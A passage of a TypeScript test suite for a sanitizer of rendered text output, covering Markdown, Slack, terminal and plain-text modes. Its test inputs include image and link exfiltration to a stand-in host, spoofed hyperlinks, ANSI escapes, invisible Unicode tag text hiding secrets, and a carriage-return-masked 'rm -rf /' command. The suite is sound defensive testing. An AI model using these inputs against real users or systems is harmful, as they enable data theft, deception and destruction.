    const under = (text: string): string => clean(text, { 'output_handler.rendering': 'markdown' });
    expect(under(`\`\`\`js\n${image}\n\`\`\``)).toContain(image);
    for (const language of ['mermaid', 'math', 'katex', 'latex']) {
      expect(under(`\`\`\`${language}\n${image}\n\`\`\``)).not.toContain(image);
    }
  });

  it('changes neither HTML nor Markdown under `text`, but redacts, and removes control characters', () => {
    const text = `<h1>[x](javascript:y) ![z](http://evil.test) ${AWS_KEY} ops@a.example\u0007\u202e\t\r\n`;
    expect(sanitizer.sanitize(text, settings(), { rendering: 'text' }).text).toBe(
      '<h1>[x](javascript:y) ![z](http://evil.test) [aws_access_key] [email]\t\r\n',
    );
  });

  it.each([
    [
      '<!channel> <!here> <@U1> <#C1> <!subteam^S1>',
      '&lt;!channel> &lt;!here> &lt;@U1> &lt;#C1> &lt;!subteam^S1>',
    ],
    ['<https://evil.test|your bank> and `<@U1>`', '&lt;https://evil.test|your bank> and `&lt;@U1>`'],
    ['<!date^1^{date}^https://evil.test|today>', '&lt;!date^1^{date}^https://evil.test|today>'],
    ['*bold* _it_ ~no~ R&D > 1, see https://a.example', null],
    ['> quote\n```\na[i](x) ![y](z) redis://a\n```', null],
  ])('keeps what mentions and masks nothing under `slack`: %s', (text, expected) => {
    expect(clean(text, { 'output_handler.rendering': 'slack' })).toBe(expected ?? text);
  });

  it.each([
    ['\u001b[1;31mfailed\u001b[0m \u009b2Jdone', 'failed done'],
    ['\u001b]8;;https://evil.test\u001b\\your bank\u001b]8;;\u0007', 'your bank'],
    ['\u001b]0;title\u0007\u001bP+q\u001b\\\u001b(0\u001bcx', 'x'],
    ['\u001b]8;;an open string', '8;;an open string'],
  ])('removes whole sequences of terminals in every rendering: %j', (text, expected) => {
    for (const rendering of RENDERINGS) {
      expect(sanitizer.sanitize(text, settings(), { rendering }).text).toBe(expected);
    }
  });

  it('shows what a lone carriage return would overwrite under `terminal`, and Markdown as it is', () => {
    const text = 'rm -rf /\rls ![x](y) <b>\r\n';
    expect(clean(text, { 'output_handler.rendering': 'terminal' })).toBe(text.replace('/\r', '/\n'));
  });

  it.each(['slack', 'terminal'] as const)(
    'checks addresses against the allowed hosts under `%s`',
    (rendering) => {
      const values = {
        'output_handler.rendering': rendering,
        'output_handler.allowed_hosts': ['ok.example'],
      };
      expect(clean('https://ok.example/x https://evil.test/x?d=1 evil.com [a](b:c)', values)).toBe(
        'https://ok.example/x [link removed] evil. com [a](b:c)',
      );
    },
  );

  it('checks every address against the allowed hosts, with and without a scheme', () => {
    const values = { 'output_handler.allowed_hosts': ['ok.example'] };
    expect(clean('ftp://evil.test/a', values)).not.toContain('evil');
    expect(clean('evil.com/a and ok.example', values)).toBe('evil. com/a and ok.example');
    expect(clean('Run Node.js on main.ts, not evil.de', values)).toBe('Run Node.js on main.ts, not evil. de');
    expect(clean('[a](ftp://ok.example)', values)).toBe('a');
  });

  it('keeps the formulas of textbooks, however they are delimited', () => {
    expect(new Set(FORMULAS).size).toBeGreaterThanOrEqual(500);
    for (const formula of FORMULAS) {
      for (const text of [
        `$${formula}$`,
        `$$\n${formula}\n$$`,
        `\\[${formula}\\]`,
        `\`\`\`math\n${formula}\n\`\`\``,
      ])
        expect(clean(text, { 'output_handler.rendering': 'markdown' })).toBe(text);
    }
  });

  it.each([
    'graph TD\nA[/a/] -->|"b: c"| B[Line<br/>two]\nclass A:::x\nstyle A fill:#f9f,stroke:#333\nB[fa:fa-car Car]',
    'sequenceDiagram\nparticipant A as User\nA->>B: Hello\nNote over A,B: 10:30 a/b',
    'gantt\ndateFormat YYYY-MM-DD\nsection A\nTask :a1, 2024-01-01, 3d',
    'mindmap\n  root((a))\n    Links\n    Properties',
    'classDiagram\nclass A {\n  +int x\n  +m() string\n}\nA <|-- B : is',
    'gitGraph\ncommit id: "a"\nbranch b',
    '%%{init: {"theme": "dark"}}%%\npie title Pets\n"Dogs" : 386',
  ])('keeps a harmless diagram: %j', (diagram) => {
    const text = `\`\`\`mermaid\n${diagram}\n\`\`\`\n\nSee [a](https://a.example/b) and https://a.example/c.`;
    const chosen = settings({
      'output_handler.rendering': 'markdown',
      'output_handler.sanitize_html': false,
    });
    expect(sanitizer.sanitize(text, chosen)).toEqual({ text, findings: [] });
  });

  it('keeps an allowed address in a diagram, and no other one', () => {
    const values = { 'output_handler.allowed_hosts': ['ok.example'] };
    expect(clean('```mermaid\nclick A "https://ok.example/a"\nclick B "https://e.test"\n```', values)).toBe(
      '```mermaid\nclick A "https://ok.example/a"\n%% click B "https e.test"\n```',
    );
  });

  it('releases only safe prefixes of a stream', () => {
    const chosen = settings({ 'output_handler.rendering': 'markdown' });
    for (const [, text, acts] of READ_OTHERWISE) {
      const session = sanitizer.begin(chosen);
      let shown = '';
      for (const unit of text) {
        shown += runToEnd(session.push(unit));
        expect(shown).not.toMatch(acts);
      }
      expect(shown + runToEnd(session.end())).toBe(sanitizer.sanitize(text, chosen).text);
    }
  });
});

const tags = (text: string): string =>
  text.replace(/./g, (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0)));

describe('hidden text', () => {
  it.each([
    ['letters in tags', `a${tags('secret')}b`, 'ab'],
    ['a flag of another code', `🏴${tags('sk1234')}\u{e007f}`, '🏴'],
    ['selectors after a letter', 'a\ufe01\ufe0e\u{e0100}b', 'ab'],
    ['selectors after an emoji and one more', '😀\ufe0f\ufe0e\u{e0121}', '😀\ufe0f'],
    ['bits between words', 'a \u200b\u200c\u200b\u200d\u2060\ufeff b', 'a  b'],
    ['joiners in Latin words', 'pass\u200cwo\u200drd\u00ad', 'password'],
    ['a joiner after an emoji that nothing follows', '😀\u200d x', '😀 x'],
    ['marks of direction in a run', 'a\u200e\u200f\u200eb', 'a\u200eb'],
    ['two joiners in a word', 'می\u200c\u200c\u200dخواهم', 'می\u200cخواهم'],
  ])('is removed in every rendering: %s', (_, text, expected) => {
    for (const rendering of RENDERINGS) {
      expect(sanitizer.sanitize(text, settings(), { rendering }).text).toBe(expected);
    }
  });

  it('is every character without a glyph, between Latin letters', () => {
    for (let code = 0; code <= 0xe0fff; code++) {
      const character = String.fromCodePoint(code);
      if (!/[\p{Default_Ignorable_Code_Point}\p{Cc}]/u.test(character) || /[\t\n\r]/.test(character))
        continue;
      const expected = /[\u200e\u200f\u061c]/.test(character) ? `a${character}é` : 'aé';
      expect(clean(`a${character}é`)).toBe(expected);
    }
  });

  it.each([
    ['Persian', 'می‌خواهم کتاب‌هایم را ببینم؛ سال ۱۴۰۲ ه‍.ش'],
    ['Arabic, with a mark of direction', 'رقم الطلب هو \u200f1182\u200f، شكرًا.'],
    ['Hebrew', 'המספר הוא \u200eA-1182\u200e.'],
    ['Hindi', 'क्षमा करें, क्‍ष और क्‌ष अलग हैं। श्री'],
    ['Bengali', 'র‍্যাব, ক্‌ষ ও উদ্‌যোগ'],
    ['Malayalam', 'അവന്‍ വന്നു'],
    ['Thai', 'ภาษาไทย\u200bไม่มี\u200bช่องว่าง'],
    ['Khmer', 'ភាសា\u200bខ្មែរ'],
    ['Mongolian', 'ᠮᠣᠩᠭᠣᠯ\u180bᠠ'],
    ['emoji', '👨‍👩‍👧‍👦 👩🏽‍💻 🏳️‍🌈 ❤️‍🔥 👁️‍🗨️ 🕵🏻‍♂️ 1️⃣ #️⃣ ✈️ ☺︎ 🇩🇪'],
    ['flags', `🏴${tags('gbeng')}\u{e007f}🏴${tags('gbsct')}\u{e007f} 🏴${tags('gbwls')}\u{e007f} 🏴`],
  ])('leaves what a script or an emoji needs: %s', (_, text) => {
    for (const rendering of RENDERINGS) {
      expect(sanitizer.sanitize(text, settings(), { rendering })).toEqual({ text, findings: [] });
      const long = `${text} `.repeat(300);
      const session = sanitizer.begin(settings(), { rendering });
      const shown = Array.from(long, (character) => runToEnd(session.push(character))).join('');
      expect(shown + runToEnd(session.end())).toBe(long);
    }
  });
});

describe('redaction for the audit', () => {
  it('returns edits of the original text that produce the result', () => {
    fc.assert(
      fc.property(fc.oneof(hostileText, longHostileText), (text) => {
        const { text: after, edits } = sanitizer.redact(text);
        let rebuilt = '';
        let read = 0;
        for (const { span, replacement } of edits) {
          expect(span[0]).toBeGreaterThanOrEqual(read);
          rebuilt += text.slice(read, span[0]) + replacement;
          read = span[1];
        }
        expect(rebuilt + text.slice(read)).toBe(after);
        expect(sanitizer.redact(after)).toEqual({ text: after, edits: [] });
      }),
      { numRuns: 300 },
    );
  });

  it('inserts placeholders that no detector finds', () => {
    for (const { placeholder } of builtInDetectors) {
      for (const detector of builtInDetectors) {
        expect(detector.find(`x ${placeholder} token: ${placeholder}`)).toEqual([]);
      }
    }
  });
});
